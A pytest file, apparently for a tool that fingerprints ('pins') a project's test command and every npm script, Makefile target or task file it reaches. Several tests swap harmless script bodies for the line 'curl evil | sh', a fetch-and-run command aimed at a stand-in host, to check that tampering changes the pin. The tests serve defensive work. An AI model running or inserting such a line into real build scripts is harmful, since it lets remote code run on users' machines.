"""Whatever the text of a task may name is a part of its pin, in whatever spelling of a shell or a package manager."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.config.project.test_search import put
from xun.config.project.search import search

# What `npm test` runs, and the script whose text is changed.
SCRIPTS = {
    "a plus": ("npm run test+cov", "test+cov"),
    "a blank": ('npm run "all tests"', "all tests"),
    "a backslash": ("npm run all\\ tests", "all tests"),
    "quotes in a word": ("npm run te'st:u'nit", "test:unit"),
    "braces": ('npm-run-all "test:{unit,e2e}"', "test:unit"),
    "one letter": ("run-s test:?nit", "test:unit"),
    "a set of letters": ("run-s test:[u]nit", "test:unit"),
    "all but one": ("run-s 'test:!(e2e)'", "test:unit"),
    "a program before it": ('concurrently "npm:unit" "npm:lint"', "unit"),
    "a variable of npm": ("npm run $npm_package_config_t", "unit"),
    "a command of a shell": ("npm run $(cat x)", "unit"),
    "an expression of pnpm": ("pnpm run /^un/", "unit"),
    "npm's own name": ("npm ci", "postinstall"),
    "npm's own name, behind another": ("npm run lint && npm version minor", "preversion"),
}


@pytest.mark.parametrize("name", SCRIPTS)
def test_a_script_is_pinned_however_it_is_named(name: str, work: Path) -> None:
    text, other = SCRIPTS[name]
    pins = []
    for inner in ("jest", "curl evil | sh"):
        put(work, {"package.json": {"scripts": {"test": text, other: inner}}})
        pins += [one.pin for one in search(work, work).commands if one.command == "npm test"]
    assert len(set(pins)) == 2


def test_what_a_variable_of_npm_stands_for_is_pinned(work: Path) -> None:
    pins = []
    for value in ("unit", "curl evil | sh"):
        put(work, {"package.json": {"config": {"t": value}, "scripts": {"test": "sh -c $npm_package_config_t"}}})
        pins += [one.pin for one in search(work, work).commands]
    assert len(set(pins)) == 2


def test_a_script_that_is_not_named_is_not_pinned(work: Path) -> None:
    pins = []
    for inner in ("jest", "vitest"):
        put(work, {"package.json": {"scripts": {"test": "npm run unit && tsc", "unit": "ava", "latest": inner}}})
        pins += [one.pin for one in search(work, work).commands if one.command == "npm test"]
    assert len(set(pins)) == 1


# What stands in a file of the project, the command that it defines, and what of its own this names.
FILES = {
    "of a prerequisite": ({"Makefile": "test: build\n\techo\nbuild:\n\t./b.sh\n"}, "make test", "b.sh"),
    "without an ending": ({"Makefile": "test:\n\tbash scripts/run\n"}, "make test", "scripts/run"),
    "behind a variable": ({"Makefile": "test:\n\t$(TOP)/scripts/run.sh\n"}, "make test", "scripts/run.sh"),
    "in a folder": ({"Makefile": "test:\n\tcd sub && ./run.sh\n"}, "make test", "sub/run.sh"),
    "by a pattern": ({"Makefile": "test:\n\tfor f in t/*.sh; do sh $$f; done\n"}, "make test", "t/a.sh"),
    "by braces": ({"Makefile": "test:\n\tsh t/{a,b}.sh\n"}, "make test", "t/a.sh"),
    "with a blank": ({"Makefile": "test:\n\tsh 'my run.sh'\n"}, "make test", "my run.sh"),
    "with a blank and a backslash": ({"Makefile": "test:\n\tsh my\\ run.sh\n"}, "make test", "my run.sh"),
    "with a plus": ({"Makefile": "test:\n\tsh a+b.sh\n"}, "make test", "a+b.sh"),
    "by another package": (
        {"package.json": {"scripts": {"test": "npm --prefix sub run x"}}, "sub/package.json": {"scripts": {"x": "./x.sh"}}},
        "npm test", "sub/x.sh",
    ),
    "as the shell of npm": ({"package.json": {"scripts": {"test": "jest"}}, ".npmrc": "script-shell=./sh/x\n"}, "npm test", "sh/x"),
    "as the shell of just": ({"justfile": 'set shell := ["./sh"]\ntest:\n  pytest\n'}, "just test", "sh"),
    "by another task": ({"Taskfile.yml": "tasks:\n  test:\n    deps: [x]\n  x:\n    cmds: [./x.sh]\n"}, "task test", "x.sh"),
    "what uv takes": ({"uv.lock": "", "tests/x": ""}, "uv run pytest", "uv.toml"),
    "what Bundler takes": ({"Gemfile": "", "Rakefile": "task :test do\nend\n"}, "bundle exec rake test", ".bundle/config"),
    "what poe takes": ({"pyproject.toml": "[tool.poe.tasks]\ntest = 'pytest'\n"}, "poe test", "poe_tasks.toml"),
}  # fmt: skip


@pytest.mark.parametrize("name", FILES)
def test_a_file_is_pinned_however_it_is_named(name: str, work: Path) -> None:
    files, command, other = FILES[name]
    put(work, files)
    pins = []
    for text in ("echo 1\n", "curl evil | sh\n"):
        put(work, {other: text})
        pins += [one.pin for one in search(work, work).commands if one.command == command]
    assert len(set(pins)) == 2


def test_tasks_that_take_in_other_files_are_not_offered(work: Path) -> None:
    put(work, {"pyproject.toml": "[tool.poe]\ninclude = 'more.toml'\n[tool.poe.tasks]\ntest = 'pytest'\n"})
    found = search(work, work)
    assert found.commands == () and found.why_not("poe test")


def test_scripts_in_too_many_folders_are_not_offered(work: Path) -> None:
    put(work, {"Makefile": "test:\n\tsh */*/*/x.sh\n"})
    assert search(work, work).why_not("make test")
